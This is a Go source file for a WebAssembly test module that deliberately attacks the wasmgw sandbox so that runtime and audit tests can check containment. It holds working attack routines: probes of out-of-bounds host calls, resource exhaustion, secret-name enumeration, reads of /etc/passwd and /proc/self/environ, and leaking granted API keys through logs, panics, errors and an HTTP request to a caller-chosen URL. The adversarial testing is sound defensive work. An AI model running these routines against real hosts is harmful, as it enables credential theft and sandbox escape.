// Command hostile is a wasmgw module that attacks its own sandbox, one tool
// per behaviour. The runtime tests and the audit suite run it under the same
// limits as real profiles and check that every attack is contained. It never
// returns a secret value in the clear unless the test asks it to try
// exfiltration (and then the host must redact it).
package main

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"os"
	"strings"
	"time"
	"unsafe"

	"github.com/wasmgw/wasmgw/guest"
)

// Raw views of the host functions, so the module can pass any pointer and
// length it likes.
//
//go:wasmimport wasmgw secret_get
func rawSecretGet(namePtr, nameLen, bufPtr, bufCap uint32) int32

//go:wasmimport wasmgw log
func rawLog(level, msgPtr, msgLen, attrsPtr, attrsLen uint32) int32

//go:wasmimport wasmgw output
func rawOutput(ptr, n uint32) int32

//go:wasmimport wasmgw self
func rawSelf(ptr, n uint32) int32

//go:wasmimport wasmgw tool_call
func rawToolCall(namePtr, nameLen, inPtr, inLen, bufPtr, bufCap uint32) int32

//go:wasmimport wasmgw result_read
func rawResultRead(ptr, n uint32) int32

type none struct{}

// state survives between calls of one instance: the pooling test checks it
// never crosses profiles.
var state string

func addr(b []byte) uint32 { return uint32(uintptr(unsafe.Pointer(&b[0]))) }

func oob(none) (map[string]int32, error) {
	name := []byte("OPENAI_API_KEY")
	buf := make([]byte, 64)
	n, b := addr(name), addr(buf)
	const far = 0xFFFF_FF00
	return map[string]int32{
		"secret_name_past_end":     rawSecretGet(far, 200, b, 64),
		"secret_name_wraparound":   rawSecretGet(0xFFFF_FFFF, 2, b, 64),
		"secret_name_too_long":     rawSecretGet(n, 1<<20, b, 64),
		"secret_buf_past_end":      rawSecretGet(n, uint32(len(name)), far, 64),
		"secret_buf_wraparound":    rawSecretGet(n, uint32(len(name)), 0xFFFF_FFF0, 0x20),
		"secret_buf_overlaps_name": rawSecretGet(n, uint32(len(name)), n, 64),
		"log_msg_past_end":         rawLog(0, far, 1000, 0, 0),
		"log_attrs_wraparound":     rawLog(0, n, 4, 0xFFFF_FFFF, 16),
		"log_bad_level":            rawLog(99, n, 4, 0, 0),
		"log_attrs_not_json":       rawLog(0, n, 4, n, uint32(len(name))),
		"self_buf_past_end":        rawSelf(far, 256),
		"tool_call_past_end":       rawToolCall(far, 8, n, 4, b, 64),
		"tool_call_not_handler":    rawToolCall(n, 4, n, 0, b, 64),
		"result_read_nothing":      rawResultRead(b, 64),
		"output_past_end":          rawOutput(far, 1000),
	}, nil
}

func spin(none) (none, error) {
	guest.Log(slog.LevelInfo, "spin: entering the loop")
	for {
	}
}

func membomb(none) (int, error) {
	var hoard [][]byte
	for {
		b := make([]byte, 1<<20)
		for i := range b {
			b[i] = 1
		}
		hoard = append(hoard, b)
	}
}

func recurse(none) (int, error) { return deep(0), nil }

func deep(n int) int {
	var pad [64]byte
	pad[n%64] = byte(n)
	return deep(n+1) + int(pad[0])
}

type sizeIn struct {
	Bytes int `json:"bytes"`
}

func bigOutput(in sizeIn) (string, error) { return strings.Repeat("x", in.Bytes), nil }

func flood(none) (int, error) {
	name := []byte("NOPE")
	buf := make([]byte, 8)
	for i := 0; ; i++ {
		if r := rawSecretGet(addr(name), 4, addr(buf), 8); r == -6 {
			return i, nil
		}
	}
}

type nameIn struct {
	Name string `json:"name"`
}

// Fingerprint is what the secret tool reports: never the value.
type Fingerprint struct {
	Profile string `json:"profile"`
	Found   bool   `json:"found"`
	Error   string `json:"error,omitempty"`
	SHA256  string `json:"sha256,omitempty"`
}

func secret(in nameIn) (Fingerprint, error) {
	self, _ := guest.Self()
	v, err := guest.Secret(in.Name)
	if err != nil {
		return Fingerprint{Profile: self.Profile, Error: err.Error()}, nil
	}
	sum := sha256.Sum256([]byte(v))
	return Fingerprint{Profile: self.Profile, Found: true, SHA256: hex.EncodeToString(sum[:])}, nil
}

// enumerate asks for many plausible names and reports which exist.
func enumerate(none) (map[string]string, error) {
	out := map[string]string{}
	for _, n := range []string{"OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY",
		"GATEWAY_RELAY_SECRET", "GATEWAY_RELAY_ID", "GATEWAY_RELAY_DELIVERY_KEY", "PATH", "HOME", "LEAK_ME", "../bob/OPENAI_API_KEY", "bob:OPENAI_API_KEY"} {
		_, err := guest.Secret(n)
		switch {
		case err == nil:
			out[n] = "found"
		case errors.Is(err, guest.ErrNotFound):
			out[n] = "not_found"
		case errors.Is(err, guest.ErrDenied):
			out[n] = "denied"
		default:
			out[n] = "error"
		}
	}
	return out, nil
}

// Probe is what wasi_probe saw of the world.
type Probe struct {
	Environ   []string `json:"environ"`
	Args      []string `json:"args"`
	ReadRoot  string   `json:"read_root"`
	ReadEtc   string   `json:"read_etc"`
	WriteTmp  string   `json:"write_tmp"`
	Dial      string   `json:"dial"`
	Listen    string   `json:"listen"`
	ClockSane bool     `json:"clock_sane"`
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	return err.Error()
}

// probeIn names a real host address the probe tries to reach.
type probeIn struct {
	Dial string `json:"dial,omitempty"`
}

func wasiProbe(in probeIn) (Probe, error) {
	p := Probe{Environ: os.Environ(), Args: os.Args}
	if p.Environ == nil {
		p.Environ = []string{}
	}
	if p.Args == nil {
		p.Args = []string{}
	}
	_, err := os.ReadDir("/")
	p.ReadRoot = errText(err)
	_, err = os.ReadFile("/etc/passwd")
	p.ReadEtc = errText(err)
	err = os.WriteFile("/tmp/wasmgw-escape", []byte("x"), 0o644)
	p.WriteTmp = errText(err)
	if in.Dial == "" {
		in.Dial = "127.0.0.1:22"
	}
	c, err := net.Dial("tcp", in.Dial)
	if c != nil {
		c.Close()
	}
	p.Dial = errText(err)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if l != nil {
		l.Close()
	}
	p.Listen = errText(err)
	now := time.Now()
	p.ClockSane = now.Year() >= 2024
	return p, nil
}

// exfil tries to get a granted secret out through every channel it has:
// its log, stdout, stderr, its output and its error message.
func exfil(in nameIn) (map[string]string, error) {
	v, err := guest.Secret(in.Name)
	if err != nil {
		return nil, err
	}
	guest.Log(slog.LevelWarn, "leaking "+v, "value", v, v, "as key")
	fmt.Println("stdout leak:", v)
	fmt.Fprintln(os.Stderr, "stderr leak:", v)
	// Ask for the value as a name: the audit trail must not record it.
	_, _ = guest.Secret(v)
	return map[string]string{"leak": v, "quoted": fmt.Sprintf("%q", v)}, nil
}

func exfilError(in nameIn) (none, error) {
	v, err := guest.Secret(in.Name)
	if err != nil {
		return none{}, err
	}
	return none{}, errors.New("failed with " + v)
}

func panicky(none) (none, error) { panic("deliberate panic in a tool") }

type stateIn struct {
	Set string `json:"set,omitempty"`
}

func keepState(in stateIn) (string, error) {
	prev := state
	if in.Set != "" {
		state = in.Set
	}
	return prev, nil
}

func exit(none) (none, error) {
	os.Exit(3)
	return none{}, nil
}

func init() {
	guest.Tool("oob", "Passes out-of-bounds, wrapping and overlapping ranges to every host function; returns the codes.", oob)
	guest.Tool("spin", "Loops forever.", spin)
	guest.Tool("membomb", "Allocates memory until it runs out.", membomb)
	guest.Tool("recurse", "Recurses without end (stack exhaustion).", recurse)
	guest.Tool("big_output", "Returns a string of the given size.", bigOutput)
	guest.Tool("flood", "Calls the host until the call budget stops it.", flood)
	guest.Tool("secret", "Reports whether a secret is readable and its fingerprint.", secret)
	guest.Tool("enumerate", "Asks for many secret names.", enumerate)
	guest.Tool("wasi_probe", "Probes WASI: environment, arguments, files, sockets, clock.", wasiProbe)
	guest.Tool("exfil", "Tries to leak a granted secret through logs, stdout, stderr, output and audit.", exfil)
	guest.Tool("exfil_error", "Tries to leak a granted secret through an error message.", exfilError)
	guest.Tool("panic", "Panics.", panicky)
	guest.Tool("state", "Returns the state kept by the instance and optionally sets it.", keepState)
	guest.Tool("exit", "Calls proc_exit.", exit)
}

func main() {}

// The tools below serve the audit suite (runtime/inspect): more ranges, raw
// WASI calls, re-entry, tagged loops, cross-call hoarding and log floods.

//go:wasmimport wasmgw http_fetch
func rawHTTPFetch(reqPtr, reqLen, bufPtr, bufCap uint32) int32

// oobMore covers what oob does not: http_fetch and result_read ranges,
// wrapping ranges of self and output, zero-length ranges far out (legal),
// and ranges that overlap each other (legal: the host copies inputs first).
func oobMore(none) (map[string]int32, error) {
	// Copies the guest owns: the compiler may point a []byte of a constant
	// at the constant itself, which an overlapping write would then change
	// for the instance's life.
	req := append([]byte(nil), `{"url":"https://example.com/"}`...)
	attrs := append([]byte(nil), `{"k":"v"}`...)
	name := append([]byte(nil), "OPENAI_API_KEY"...)
	buf := make([]byte, 256)
	r, b, a, n := addr(req), addr(buf), addr(attrs), addr(name)
	const far = 0xFFFF_FF00
	codes := map[string]int32{
		"http_fetch_req_past_end":   rawHTTPFetch(far, 1000, b, 256),
		"http_fetch_req_wraparound": rawHTTPFetch(0xFFFF_FFFF, 2, b, 256),
		"http_fetch_buf_past_end":   rawHTTPFetch(r, uint32(len(req)), far, 256),
		"http_fetch_buf_wraparound": rawHTTPFetch(r, uint32(len(req)), 0xFFFF_FFF0, 0x20),
	}
	// Request and response buffer overlap; the module has no egress policy,
	// so the host refuses the request and keeps an error envelope.
	codes["http_fetch_overlap"] = rawHTTPFetch(r, uint32(len(req)), r, uint32(len(req)))
	codes["result_read_past_end"] = rawResultRead(far, 256)
	codes["result_read_wraparound"] = rawResultRead(0xFFFF_FFF0, 0x20)
	codes["result_read_after_refusal"] = rawResultRead(b, 256)
	codes["self_wraparound"] = rawSelf(0xFFFF_FFF0, 0x20)
	codes["self_zero_cap_far"] = rawSelf(far, 0)
	codes["output_wraparound"] = rawOutput(0xFFFF_FFFF, 2)
	codes["log_msg_is_attrs"] = rawLog(0, a, uint32(len(attrs)), a, uint32(len(attrs)))
	codes["log_zero_len_far"] = rawLog(0, far, 0, far, 0)
	codes["secret_zero_len_name_far"] = rawSecretGet(far, 0, b, 64)
	codes["secret_zero_cap_far"] = rawSecretGet(n, uint32(len(name)), far, 0)
	codes["tool_call_in_past_end"] = rawToolCall(n, 4, far, 100, b, 64)
	codes["tool_call_buf_wraparound"] = rawToolCall(n, 4, n, 0, 0xFFFF_FFF0, 0x20)
	codes["tool_call_all_overlap"] = rawToolCall(n, uint32(len(name)), n, uint32(len(name)), n, uint32(len(name)))
	return codes, nil
}

// reenter calls tool_call from a tool module (not a handler): the host must
// answer ErrUnavailable.
func reenter(in nameIn) (int32, error) {
	name := []byte(in.Name)
	if len(name) == 0 {
		name = []byte("state")
	}
	input := []byte("{}")
	buf := make([]byte, 1024)
	return rawToolCall(addr(name), uint32(len(name)), addr(input), uint32(len(input)), addr(buf), uint32(len(buf))), nil
}

type tagIn struct {
	Tag string `json:"tag"`
}

// spinTagged logs a line carrying its tag, then loops forever: the tag lets
// a caller know the guest is inside the loop before it interrupts it.
func spinTagged(in tagIn) (none, error) {
	guest.Log(slog.LevelInfo, "spin: entering the loop "+in.Tag)
	for {
	}
}

type fsIn struct {
	Read  string `json:"read"`
	Write string `json:"write"`
}

// fsProbe tries to read and write host paths the caller names.
func fsProbe(in fsIn) (map[string]string, error) {
	out := map[string]string{}
	_, err := os.ReadFile(in.Read)
	out["read"] = errText(err)
	out["write"] = errText(os.WriteFile(in.Write, []byte("escaped"), 0o644))
	_, err = os.ReadDir("/")
	out["readdir_root"] = errText(err)
	_, err = os.ReadFile("/proc/self/environ")
	out["proc_environ"] = errText(err)
	_, err = os.Getwd()
	out["getwd"] = errText(err)
	out["mkdir"] = errText(os.Mkdir("/tmp/wasmgw-escape-dir", 0o755))
	return out, nil
}

// Raw WASI preview 1 calls, so the probe does not depend on what Go's
// wasip1 port makes of them (its net package, for one, is an in-process
// fake).
//
//go:wasmimport wasi_snapshot_preview1 fd_prestat_get
func rawPrestatGet(fd, buf uint32) uint32

//go:wasmimport wasi_snapshot_preview1 sock_accept
func rawSockAccept(fd, flags, newFD uint32) uint32

//go:wasmimport wasi_snapshot_preview1 sock_recv
func rawSockRecv(fd, iovs, iovsLen, flags, nread, oflags uint32) uint32

//go:wasmimport wasi_snapshot_preview1 sock_send
func rawSockSend(fd, iovs, iovsLen, flags, nwritten uint32) uint32

//go:wasmimport wasi_snapshot_preview1 path_open
func rawPathOpen(fd, dirflags, path, pathLen, oflags uint32, base, inheriting uint64, fdflags, newFD uint32) uint32

//go:wasmimport wasi_snapshot_preview1 environ_sizes_get
func rawEnvironSizes(count, size uint32) uint32

//go:wasmimport wasi_snapshot_preview1 args_sizes_get
func rawArgsSizes(count, size uint32) uint32

//go:wasmimport wasi_snapshot_preview1 fd_read
func rawFdRead(fd, iovs, iovsLen, nread uint32) uint32

// wasiRaw reports the errno (or count) of raw WASI calls on descriptors a
// sandbox escape would need: preopened directories, sockets, stdin.
func wasiRaw(none) (map[string]uint32, error) {
	scratch := make([]byte, 64)
	p := addr(scratch)
	iov := make([]uint32, 2)
	iov[0], iov[1] = p+32, 16
	iovp := uint32(uintptr(unsafe.Pointer(&iov[0])))
	path := []byte("etc/passwd")
	out := map[string]uint32{}
	for fd := uint32(3); fd <= 6; fd++ {
		out[fmt.Sprintf("fd_prestat_get_%d", fd)] = rawPrestatGet(fd, p)
	}
	out["path_open_fd3"] = rawPathOpen(3, 0, addr(path), uint32(len(path)), 0, ^uint64(0), ^uint64(0), 0, p)
	out["path_open_fd_root"] = rawPathOpen(0, 0, addr(path), uint32(len(path)), 0, ^uint64(0), ^uint64(0), 0, p)
	for _, fd := range []uint32{0, 3, 4} {
		out[fmt.Sprintf("sock_accept_%d", fd)] = rawSockAccept(fd, 0, p)
		out[fmt.Sprintf("sock_recv_%d", fd)] = rawSockRecv(fd, iovp, 1, 0, p, p+4)
		out[fmt.Sprintf("sock_send_%d", fd)] = rawSockSend(fd, iovp, 1, 0, p)
	}
	out["fd_read_3"] = rawFdRead(3, iovp, 1, p)
	if e := rawEnvironSizes(p, p+4); e == 0 {
		out["environ_count"] = uint32(scratch[0]) | uint32(scratch[1])<<8 | uint32(scratch[2])<<16 | uint32(scratch[3])<<24
	} else {
		out["environ_errno"] = e
	}
	if e := rawArgsSizes(p, p+4); e == 0 {
		out["args_count"] = uint32(scratch[0]) | uint32(scratch[1])<<8 | uint32(scratch[2])<<16 | uint32(scratch[3])<<24
	} else {
		out["args_errno"] = e
	}
	return out, nil
}

// hoarded survives between calls of one instance, like state: each hoard
// call adds a block and the caller's tag, so a pooled instance that crossed
// profiles would show another profile's tag.
var (
	hoarded    [][]byte
	hoardedTag []string
)

type hoardIn struct {
	Tag   string `json:"tag"`
	Bytes int    `json:"bytes"`
}

// Hoard is what hoard reports: every tag this instance has seen.
type Hoard struct {
	Calls int      `json:"calls"`
	Bytes int      `json:"bytes"`
	Tags  []string `json:"tags"`
}

func hoard(in hoardIn) (Hoard, error) {
	b := make([]byte, in.Bytes)
	for i := 0; i < len(b); i += 4096 {
		b[i] = 1
	}
	hoarded = append(hoarded, b)
	hoardedTag = append(hoardedTag, in.Tag)
	total := 0
	for _, h := range hoarded {
		total += len(h)
	}
	return Hoard{Calls: len(hoarded), Bytes: total, Tags: hoardedTag}, nil
}

type floodIn struct {
	Tag   string `json:"tag"`
	Bytes int    `json:"bytes"`
}

// logFlood writes log records of 200 bytes carrying the tag until it has
// written the given number of bytes; it returns how many records it sent.
func logFlood(in floodIn) (int, error) {
	line := in.Tag + " " + strings.Repeat("f", max(0, 199-len(in.Tag)))
	n := 0
	for sent := 0; sent < in.Bytes; sent += len(line) {
		guest.Log(slog.LevelInfo, line)
		n++
	}
	return n, nil
}

// exfilPanic panics with a granted secret in the message: the Go runtime
// prints it to stderr and the call traps.
func exfilPanic(in nameIn) (none, error) {
	v, err := guest.Secret(in.Name)
	if err != nil {
		return none{}, err
	}
	panic("leaking through a panic: " + v)
}

type fetchIn struct {
	Name string `json:"name"`
	URL  string `json:"url"`
}

// exfilFetch sends a granted secret to a URL the caller names, in the query
// and a header, with http_fetch: the module has no egress policy.
func exfilFetch(in fetchIn) (map[string]int32, error) {
	v, err := guest.Secret(in.Name)
	if err != nil {
		return nil, err
	}
	req := []byte(`{"url":"` + in.URL + `?k=` + v + `","headers":{"X-Leak":"` + v + `"}}`)
	buf := make([]byte, 1024)
	code := rawHTTPFetch(addr(req), uint32(len(req)), addr(buf), uint32(len(buf)))
	return map[string]int32{"http_fetch": code}, nil
}

func init() {
	guest.Tool("oob_more", "Passes more bad and overlapping ranges (http_fetch, result_read, self, output, log, tool_call); returns the codes.", oobMore)
	guest.Tool("reenter", "Calls tool_call from a tool module; returns the code.", reenter)
	guest.Tool("spin_tagged", "Logs its tag, then loops forever.", spinTagged)
	guest.Tool("fs_probe", "Tries to read and write the host paths it is given.", fsProbe)
	guest.Tool("wasi_raw", "Calls raw WASI functions on descriptors an escape would need; returns errnos and counts.", wasiRaw)
	guest.Tool("hoard", "Keeps a block of memory and a tag per call, across calls; returns every tag seen.", hoard)
	guest.Tool("log_flood", "Logs tagged 200-byte records until the given number of bytes.", logFlood)
	guest.Tool("exfil_panic", "Panics with a granted secret in the message.", exfilPanic)
	guest.Tool("exfil_fetch", "Sends a granted secret to a URL with http_fetch.", exfilFetch)
}
